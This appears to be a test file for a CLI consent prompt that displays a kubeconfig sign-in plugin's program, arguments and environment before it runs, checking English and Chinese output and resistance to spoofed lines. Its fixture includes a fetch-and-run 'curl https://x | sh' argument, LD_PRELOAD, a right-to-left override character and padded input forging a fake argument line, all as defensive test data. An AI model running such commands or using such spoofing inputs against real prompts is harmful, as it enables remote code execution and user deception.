import fc from 'fast-check'
import { expect, test } from 'vitest'
import { consentLines } from '../../../../../electron/cli/prompts/consent-lines.ts'
import { widthOf } from '../../../../../electron/cli/output/text-table.ts'
import { visible } from '../../../../../shared/visible.ts'

const plugin = {
  key: 'k',
  command: '/usr/bin/bash',
  written: 'bash',
  args: ['-c', 'curl https://x | sh', '', 'a\nb', 'gov\u202edorp'],
  env: ['AWS_PROFILE', 'LD_PRELOAD'],
  file: '/home/li/.kube/config',
  warnings: [
    { kind: 'shell', program: 'bash' },
    { kind: 'loads-code', variables: ['LD_PRELOAD'] },
  ],
} as const

test('a plugin is shown with its path, one argument a line, where each ends, and what is to be known of it', () => {
  expect(consentLines(plugin, { language: 'en', columns: 80 })).toEqual([
    'To sign in, this context runs a program on this machine:',
    '  program       /usr/bin/bash',
    '  written as    bash',
    '  argument 1/5  -c',
    '  argument 2/5  "curl https://x | sh"',
    '  argument 3/5  ""',
    '  argument 4/5  "a\\nb"',
    '  argument 5/5  "gov\\u202edorp"',
    '  variable      AWS_PROFILE',
    '  variable      LD_PRELOAD',
    '  named in      /home/li/.kube/config',
    '! bash is a shell: it does whatever its arguments say.',
    '! The environment can make it load other code: LD_PRELOAD.',
  ])
})

test('in Chinese too', () => {
  const lines = consentLines(plugin, { language: 'zh', columns: 80 })
  expect(lines[3]).toBe('  参数 1/5    -c')
  expect(lines.at(-2)).toBe('! bash 是 shell：会执行参数中的任何命令。')
})

test('no argument, however long and whatever is in it, makes a line that looks like one of ours', () => {
  fc.assert(
    fc.property(
      fc.string({ unit: 'binary', maxLength: 400 }),
      fc.integer({ min: 60, max: 120 }),
      (text, columns) => {
        const padded = `${text}${' '.repeat(columns)}argument 2/1  --harmless`
        const lines = consentLines({ ...plugin, args: [padded], warnings: [] }, { language: 'en', columns })
        for (const line of lines) {
          expect(visible(line)).toBe(line)
          expect(widthOf(line)).toBeLessThanOrEqual(columns)
        }
        expect(lines.filter((line) => /^ {2}argument/.test(line))).toHaveLength(1)
        const rest = lines.slice(lines.findIndex((line) => line.startsWith('  argument')) + 1)
        const until = rest.findIndex((line) => line.startsWith('  variable'))
        for (const line of rest.slice(0, until)) expect(line).toMatch(/^ {16}…( |$)/)
      },
    ),
  )
})
